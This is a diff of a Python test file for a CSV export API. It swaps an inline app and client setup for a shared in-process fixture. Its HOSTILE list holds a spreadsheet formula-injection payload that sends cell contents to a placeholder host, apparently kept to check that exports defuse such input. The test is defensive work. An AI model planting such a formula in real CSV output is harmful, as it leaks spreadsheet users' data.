@@ -13,10 +13,10 @@ import httpx
 import pytest
 from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
 
-from app.api.main import create_app
 from app.api.v0 import csv_export
 from app.db import jobs, results
 from app.settings import Settings
+from tests.fixtures.api import in_process_api
 
 HOSTILE = [
     '=HYPERLINK("http://evil.test/?"&A1)@x.com',
@@ -34,12 +34,10 @@ HOSTILE = [
 async def client(
     shared_database_url: str, api_sessions: async_sessionmaker[AsyncSession]
 ) -> AsyncIterator[httpx.AsyncClient]:
-    app = create_app(Settings(database_url=shared_database_url))
-    async with app.router.lifespan_context(app):
-        app.state.sessionmaker = api_sessions
-        transport = httpx.ASGITransport(app=app)
-        async with httpx.AsyncClient(transport=transport, base_url="http://test") as http:
-            yield http
+    async with in_process_api(
+        Settings(database_url=shared_database_url), sessions=api_sessions
+    ) as http:
+        yield http
 
 
 def stored_output(address: str) -> dict[str, Any]:
